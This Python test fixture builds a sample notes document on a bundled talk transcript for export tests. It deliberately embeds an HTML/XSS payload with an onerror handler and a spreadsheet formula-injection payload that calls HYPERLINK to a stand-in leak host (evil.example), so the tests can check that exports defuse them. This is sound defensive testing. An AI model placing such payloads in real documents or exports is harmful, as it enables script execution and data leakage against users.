"""A fixed notes document on the bundled sample talk, with the markup and formula payloads exports must defuse.

Shared by the core export tests and the export dialog's tests.
"""

from __future__ import annotations

from datetime import datetime, timezone
from pathlib import Path

from reader.core.formats import parse_file
from reader.core.notes import NoteItem, NotesDocument, Quote
from reader.core.transcript import Transcript

SAMPLE = Path(__file__).resolve().parents[3] / "resources" / "sample" / "talk.txt"
EXPORTED_AT = datetime(2026, 3, 14, 9, 30, tzinfo=timezone.utc)
CREATED = "2026-03-14T09:00:00.000Z"
MARKUP_NOTE = ('<img src=x onerror=alert(1)> "quoted" & `code` # not a heading *not bold* [link](http://x)\n'
               "> not a quote\n- not a list\n1. not a list either")
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak","click me")'


def highlight(transcript: Transcript, turn_index: int, phrase: str | None, *, item_id: str, colour: str | None,
              label: str = "", note: str = "", tags: list[str] | None = None) -> NoteItem:
    """Return a highlight of `phrase` in a turn (the whole turn when None), as the window makes it."""
    turn = transcript.turns[turn_index]
    start = 0 if phrase is None else turn.text.index(phrase)
    end = len(turn.text) if phrase is None else start + len(phrase)
    return NoteItem("highlight", turn.start, id=item_id, end_ms=turn.end, turn_index=turn_index,
                    speaker=turn.speaker, quote=Quote.from_text(turn.text, start, end), char_start=start,
                    char_end=end, color=colour, label=label, note=note, tags=tags or [], created=CREATED)


def bookmark(transcript: Transcript, turn_index: int, at_ms: int, *, item_id: str, label: str = "",
             note: str = "") -> NoteItem:
    """Return a bookmark at `at_ms` in a turn."""
    return NoteItem("bookmark", at_ms, id=item_id, turn_index=turn_index,
                    speaker=transcript.turns[turn_index].speaker, label=label, note=note, created=CREATED)


def sample_transcript() -> Transcript:
    """Return the sample talk."""
    return parse_file(SAMPLE)


def sample_document(transcript: Transcript) -> NotesDocument:
    """Return five items on the sample talk, added out of time order (exports sort them)."""
    doc = NotesDocument(transcript_path=str(SAMPLE), media_path=str(SAMPLE.with_suffix(".mp4")))
    for item in (
        highlight(transcript, 14, None, item_id="0000000000000000000000000000000e", colour="yellow",
                  label="The rule", note=FORMULA_NOTE, tags=["quoting"]),
        highlight(transcript, 7, "spine of the transcript", item_id="00000000000000000000000000000007",
                  colour="green", label="Spine", note="Timestamps hold everything, together.",
                  tags=["method notes", "timing"]),
        bookmark(transcript, 0, 4071, item_id="00000000000000000000000000000000", label="Key"),
        highlight(transcript, 12, "Some of my students print everything.", item_id="0000000000000000000000000000000c",
                  colour="pink", label="Paper <b>", note=MARKUP_NOTE, tags=["paper"]),
        highlight(transcript, 21, "And an export I can paste into a draft.", item_id="00000000000000000000000000000015",
                  colour="blue", note="That is this feature.\nSecond line, with a comma."),
    ):
        doc.add(item)
    return doc
